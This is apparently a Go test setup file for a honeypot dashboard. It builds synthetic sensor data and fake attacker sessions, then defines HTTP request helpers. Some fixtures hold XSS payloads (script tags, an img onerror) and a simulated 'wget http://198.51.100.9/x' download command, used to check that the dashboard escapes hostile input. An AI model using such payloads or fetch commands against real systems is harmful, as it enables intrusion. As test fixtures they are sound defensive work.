package web

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/geo"
	"github.com/honeyscope/honeyscope/internal/ingest"
	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/duckstore"
	"github.com/honeyscope/honeyscope/internal/store/storetest"
	"github.com/honeyscope/honeyscope/internal/synth"
)

// The test store: two synthetic sensors (tokyo, osaka) with a spike, AS
// names holding HTML, and honeypot sessions whose commands and user
// names are script tags.

// hostileOrg is the organisation every AS of the test store is given.
const hostileOrg = `<b>Evil & "Org"</b><script>alert(2)</script>`

// hostileCommand and hostileUser are what the honeypot sessions sent.
const (
	hostileCommand = `<script>alert(1)</script>`
	hostileUser    = `<img src=x onerror=alert(3)>`
)

type geoPool struct{}

func (geoPool) Countries() []string                          { return geo.DefaultCountries() }
func (geoPool) Addr(cc string, n uint64) (netip.Addr, bool)  { return geo.DefaultAddr(cc, n) }
func (geoPool) Addr6(cc string, n uint64) (netip.Addr, bool) { return geo.DefaultAddr6(cc, n) }

var (
	testDir   string
	buildOnce sync.Once
	buildErr  error
	testDB    string
)

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "honeyscope-web-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	testDir = dir
	testDB = filepath.Join(dir, "s.duckdb")
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// sessionDay is the day of the honeypot sessions (a day with data).
var sessionDay = synth.DefaultStart.AddDate(0, 0, 3)

func buildStore() error {
	l, err := geo.Open(geo.Config{})
	if err != nil {
		return err
	}
	defer l.Close()
	locate := func(a netip.Addr) store.Place {
		i := l.Lookup(a)
		p := store.Place{Country: i.Country, ASN: i.ASN, Org: i.Org, Special: i.Special}
		if p.ASN != 0 {
			p.Org = hostileOrg
		}
		return p
	}
	for i, sensor := range []string{"tokyo", "osaka"} {
		capPath := filepath.Join(testDir, sensor+".pcap")
		sp, _ := synth.ParseSpike("MX:10:30")
		truth, err := synth.WriteFile(capPath, synth.Config{Packets: 40000, Days: 12 + i, Seed: uint64(21 + i), Pool: geoPool{}, Spikes: []synth.Spike{sp}})
		if err != nil {
			return err
		}
		nets, _ := ingest.ParseNets([]string{truth.SensorNet, truth.SensorNet6})
		res, err := ingest.Run(context.Background(), ingest.Config{DBPath: testDB, Sensor: sensor, TimeZone: "Asia/Tokyo", Locate: locate, SensorNets: nets}, []string{capPath})
		if err != nil || res[0].Err != nil || !res[0].Committed {
			return fmt.Errorf("ingest %s: %v %+v", sensor, err, res)
		}
	}
	ctx := context.Background()
	st, err := duckstore.Open(ctx, testDB, duckstore.Options{})
	if err != nil {
		return err
	}
	defer st.Close()
	src := netip.MustParseAddr("203.0.113.7")
	at := sessionDay.Add(5 * time.Hour)
	evil := storetest.Telnet("00000000000000a1", "tokyo", src, at, storetest.ELF("web-test"), hostileCommand, "wget http://198.51.100.9/x")
	evil.Username = hostileUser
	web := storetest.HTTP("00000000000000a2", "tokyo", netip.MustParseAddr("198.51.100.20"), at.Add(time.Hour), `/cgi-bin/<script>alert(4)</script>`)
	batch := []session.Session{evil, web}
	hits := storetest.IntrusionHits("web-b1", "tokyo", batch, st.Location())
	return st.CommitSessions(ctx, store.SessionBatch{ID: "web-b1", Sessions: batch, Hits: hits})
}

// openTestStore builds the shared store on first use and opens it
// read-only.
func openTestStore(t testing.TB) store.Store {
	t.Helper()
	buildOnce.Do(func() { buildErr = buildStore() })
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	st, err := duckstore.Open(context.Background(), testDB, duckstore.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// newTestHandler is a dashboard over the test store.
func newTestHandler(t testing.TB, deps Dependencies, cfg Configuration) *Handler {
	t.Helper()
	if deps.Store == nil {
		deps.Store = openTestStore(t)
	}
	if deps.Log == nil {
		deps.Log = slog.New(slog.NewTextHandler(testWriter{t}, nil))
	}
	if deps.Version == "" {
		deps.Version = "test"
	}
	h, err := New(deps, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// get requests target (with headers as "Name: value" pairs).
func get(t testing.TB, h http.Handler, target string, headers ...string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("GET", "http://dash.test"+target, nil)
	for _, hd := range headers {
		k, v, _ := strings.Cut(hd, ": ")
		req.Header.Set(k, v)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

type testWriter struct{ t testing.TB }

func (w testWriter) Write(b []byte) (int, error) {
	w.t.Log(strings.TrimSpace(string(b)))
	return len(b), nil
}

func body(rec *httptest.ResponseRecorder) string {
	b, _ := io.ReadAll(rec.Result().Body)
	return string(b)
}

type httptestRecorder = httptest.ResponseRecorder

// post sends a form to target with cookie (may be nil) from 192.0.2.1.
func post(t testing.TB, h http.Handler, target string, cookie *http.Cookie, kv ...string) *httptest.ResponseRecorder {
	t.Helper()
	var cs []*http.Cookie
	if cookie != nil {
		cs = append(cs, cookie)
	}
	return postFrom(t, h, "192.0.2.1:4000", target, cs, kv...)
}

// postFrom sends a form from addr with cookies.
func postFrom(t testing.TB, h http.Handler, addr, target string, cookies []*http.Cookie, kv ...string) *httptest.ResponseRecorder {
	t.Helper()
	form := url.Values{}
	for i := 0; i+1 < len(kv); i += 2 {
		form.Add(kv[i], kv[i+1])
	}
	req := httptest.NewRequest("POST", "http://dash.test"+target, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.RemoteAddr = addr
	for _, c := range cookies {
		req.AddCookie(c)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}
